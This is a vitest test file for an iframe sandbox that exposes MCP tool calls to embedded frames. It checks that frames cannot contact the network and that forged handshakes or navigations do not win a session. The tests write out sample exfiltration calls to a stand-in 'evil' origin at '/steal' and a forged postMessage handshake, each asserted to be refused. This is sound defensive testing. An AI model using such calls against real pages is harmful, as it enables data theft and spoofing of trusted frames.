import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { callFrom, createFrameWorld } from '../../../../testing/frame-world.ts';
import type { FrameWorld, PageWindow } from '../../../../testing/frame-world.ts';
import { injectKernel } from '../inject-kernel.ts';

let world: FrameWorld;
beforeAll(async () => {
  world = await createFrameWorld();
});
afterAll(async () => {
  await world.close();
});
beforeEach(async () => {
  await world.reload();
});

describe('the borders of a frame', () => {
  it('F182 is on another origin, sandboxed, and can contact nothing', async () => {
    const html = `<!doctype html><script>window.log = [];
      addEventListener('securitypolicyviolation', (event) => log.push(event.effectiveDirective));</script>`;
    const frame = await world.mount(world.publish(html));
    const element = await world.page.$('iframe');
    expect(await element?.getAttribute('sandbox')).toBe('allow-scripts allow-same-origin allow-forms');
    expect(new URL(frame.url()).origin).not.toBe(new URL(world.page.url()).origin);
    const before = world.site.requests.length;
    const attempts = await frame.evaluate(
      async (address) => {
        const failed = (run: () => unknown): Promise<string> =>
          Promise.resolve()
            .then(run)
            .then(String, () => 'refused');
        return [
          await failed(() => fetch(address)),
          await failed(() => navigator.sendBeacon(address)),
          await failed(() => new WebSocket(address.replace('http', 'ws')).url && 'opened'),
          await failed(
            () =>
              new Promise((resolve, reject) =>
                Object.assign(new Image(), { onload: resolve, onerror: reject, src: address }),
              ),
          ),
          await failed(() => import(/* @vite-ignore */ address)),
          String(window.open(address) === null),
          String(window.confirm('x')),
          await failed(() => ((window.top as Window).location.href = address)),
        ];
      },
      `${world.site.origin('evil')}/steal`,
    );
    expect(attempts[0]).toBe('refused');
    expect(attempts.slice(3, 7)).toEqual(['refused', 'refused', 'true', 'false']);
    expect(attempts[7]).toBe('refused');
    expect(world.site.requests.slice(before)).toEqual([]);
    const refused = world.page.waitForEvent('console', (message) =>
      /download is disallowed/i.test(message.text()),
    );
    await frame.evaluate(() => {
      const href = URL.createObjectURL(new Blob(['x']));
      Object.assign(document.createElement('a'), { href, download: 'x.txt' }).click();
    });
    await refused;
    expect(await frame.evaluate(() => window.log)).toContain('connect-src');
    expect(world.page.url()).toBe(`${world.site.origin('portico')}/shell`);
  });

  it('ends a document’s calls when it navigates, and tells the next one nothing', async () => {
    const name = world.publish('<!doctype html><script>window.seen = Math.random()</script>');
    const frame = await world.mount(name, { hold: true });
    const first = await frame.evaluate(() => window.seen);
    await frame.evaluate(() => {
      const { callTool } = (window as unknown as PageWindow).claude.mcp;
      callTool?.('Acme', 'get').catch(() => undefined);
    });
    await world.page.waitForFunction(() => window.answers.length === 1);
    await world.page.evaluate(() => window.states.splice(0));
    await frame.evaluate(() => location.reload());
    const next = await world.frameOf(name);
    expect(await next.evaluate(() => window.seen)).not.toBe(first);
    const second = next.evaluate(async () => {
      const { callTool } = (window as unknown as PageWindow).claude.mcp;
      return await callTool?.('Acme', 'get');
    });
    await world.page.waitForFunction(() => window.answers.length === 2);
    expect(await world.page.evaluate(() => window.signals.map((signal) => signal.aborted))).toEqual([
      true,
      false,
    ]);
    await world.page.evaluate(() => window.answers[0]?.(undefined));
    await world.page.evaluate(() => window.answers[1]?.(undefined));
    expect(await second).toMatchObject({ payload: { n: 1 } });
    expect(await world.page.evaluate(() => window.calls.length)).toBe(2);
  });

  it('F171 is served only by a handshake of its own window', async () => {
    const quiet = world.publish('<!doctype html>');
    world.site.serve(quiet, '/frame/mute', { body: '<!doctype html><title>mute</title>' });
    const forger = `<!doctype html><script>
      const forge = () => {
        const { port1, port2 } = new MessageChannel();
        window.log = [];
        port1.onmessage = (event) => log.push(event.data);
        window.top.postMessage({ type: 'portico/frame-hello', versions: [1] }, '*', [port2]);
        port1.postMessage('{"jsonrpc":"2.0","id":1,"method":"callTool","params":{"server":"Acme","tool":"get"}}');
      };
      forge();</script>`;
    world.site.serve('forger', '/', { body: forger });
    world.site.serve(quiet, '/nested', { body: forger });
    await world.page.evaluate(
      ({ origin, forgerUrl }) => {
        window.states = [];
        window.calls = [];
        window.portico.mountFrame(document.body, {
          session: {
            frameId: 'x',
            url: `${origin}/frame/mute`,
            origin,
            artifact: {
              title: 'x',
              servers: [{ name: 'Acme', tools: ['get'] }],
              grants: [{ server: 'Acme', state: 'allow' }],
            },
          },
          gateway: {
            callTool: (call) => {
              window.calls.push(call);
              return Promise.resolve({ ok: true, result: { content: [] } });
            },
            listTools: () => Promise.resolve({ servers: [] }),
          },
          ask: () => Promise.resolve({}),
          onState: (state) => window.states.push(state.status),
        });
        const sibling = document.createElement('iframe');
        sibling.src = forgerUrl;
        document.body.append(sibling);
      },
      { origin: world.site.origin(quiet), forgerUrl: `${world.site.origin('forger')}/` },
    );
    const mute = await world.page.waitForSelector('iframe[title="x"]');
    const muteFrame = await mute.contentFrame();
    await muteFrame?.waitForLoadState();
    await muteFrame?.evaluate(
      (address) =>
        new Promise((resolve) => {
          const nested = document.createElement('iframe');
          nested.onload = resolve;
          nested.src = address;
          document.body.append(nested);
        }),
      `${world.site.origin(quiet)}/nested`,
    );
    await expect.poll(() => world.page.frames().length).toBe(4);
    await world.page.evaluate(
      () => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))),
    );
    expect(await world.page.evaluate(() => [window.states, window.calls])).toEqual([['loading'], []]);
  });

  it('F172 takes its start from no other window than a parent of the shell’s origin', async () => {
    const name = world.publish('<!doctype html>');
    const shellOrigin = world.site.origin('portico');
    world.site.serve(name, '/bare', {
      body: injectKernel('<!doctype html>', world.kernel, { shellOrigin, mcp: true }),
    });
    const parent = world.site.serve('foreign', '/', { body: '<!doctype html><body>' });
    await world.page.goto(parent);
    await world.page.evaluate(
      (address) =>
        new Promise((resolve) => {
          window.log = [];
          addEventListener('message', (event) => window.log.push(event.data));
          document.body.append(
            Object.assign(document.createElement('iframe'), { src: address, onload: resolve }),
          );
        }),
      `${world.site.origin(name)}/bare`,
    );
    const frame = world.page.frames().find((candidate) => candidate.url().endsWith('/bare'));
    const outcome = frame?.evaluate(async () => {
      const init = {
        jsonrpc: '2.0',
        method: 'frame/init',
        params: { granted: true, bridge: true, methods: ['callTool'] },
      };
      const nested = document.body.appendChild(document.createElement('iframe')).contentWindow as Window;
      const { callTool } = (window as unknown as PageWindow).claude.mcp;
      const call = callTool?.('Acme', 'get').then(
        () => 'answered',
        () => 'refused',
      );
      const { port1, port2 } = new MessageChannel();
      for (const data of [init, JSON.stringify(init)]) {
        for (const from of [window, window.parent, nested]) {
          from.postMessage(data, '*');
          window.dispatchEvent(
            new MessageEvent('message', { data, source: from, origin: 'http://portico.localhost' }),
          );
        }
      }
      window.postMessage(init, '*', [port2]);
      await new Promise((resolve) => setTimeout(resolve));
      return await Promise.race([
        call,
        new Promise((resolve) => ((port1.onmessage = resolve), setTimeout(() => resolve('waiting')))),
      ]);
    });
    expect(await outcome).toBe('waiting');
    expect(
      (await world.page.evaluate(() => window.log)).filter((data) => JSON.stringify(data).includes('hello')),
    ).toEqual([]);
  });

  it('F173 has one session: a second handshake of its document replaces the first', async () => {
    const frame = await world.mount(world.publish('<!doctype html>'), { hold: true });
    const first = callFrom(frame);
    await world.page.waitForFunction(() => window.signals.length === 1);
    const answers = frame.evaluate((shellOrigin) => {
      const { port1, port2 } = new MessageChannel();
      window.log = [];
      const answered = new Promise((resolve) => {
        port1.onmessage = ({ data }) => {
          window.log.push(JSON.parse(String(data)));
          if (window.log.length === 2) resolve(window.log);
        };
      });
      window.parent.postMessage({ type: 'portico/frame-hello', versions: [1] }, shellOrigin, [port2]);
      port1.postMessage(
        '{"jsonrpc":"2.0","id":1,"method":"callTool","params":{"server":"Other","tool":"get"}}',
      );
      return answered;
    }, world.site.origin('portico'));
    expect(await first).toMatchObject({ code: 'not_granted' });
    expect(await answers).toMatchObject([
      { method: 'frame/init', params: { granted: true } },
      { id: 1, error: { data: { code: 'not_in_manifest' } } },
    ]);
    expect(await world.page.evaluate(() => window.signals[0]?.aborted)).toBe(true);
    expect(await callFrom(frame)).toMatchObject({ code: 'not_granted' });
    await frame.evaluate(
      (shellOrigin) => window.parent.postMessage({ type: 'portico/frame-hello', versions: [1] }, shellOrigin),
      world.site.origin('portico'),
    );
    expect(await world.page.evaluate(() => window.calls.length)).toBe(1);
  });

  it('F174 loses its session when it navigates to a foreign page, which the shell’s policy blocks', async () => {
    const name = world.publish('<!doctype html>');
    const frame = await world.mount(name, { hold: true });
    const before = world.site.requests.length;
    const blocked = world.page.waitForEvent('console', (message) => message.text().includes('frame-src'));
    await frame.evaluate(() => {
      const { callTool } = (window as unknown as PageWindow).claude.mcp;
      callTool?.('Acme', 'get').catch(() => undefined);
      location.href = 'http://127.0.0.1:9/evil';
    });
    expect((await blocked).text()).toContain('127.0.0.1');
    await world.page.waitForFunction(() => document.querySelector('iframe') !== null);
    expect(world.site.requests.slice(before)).toEqual([]);
    await world.page.waitForFunction(() => window.signals[0]?.aborted === true);
    expect(await world.page.evaluate(() => window.states)).toEqual(['loading', 'ready']);
  });
});
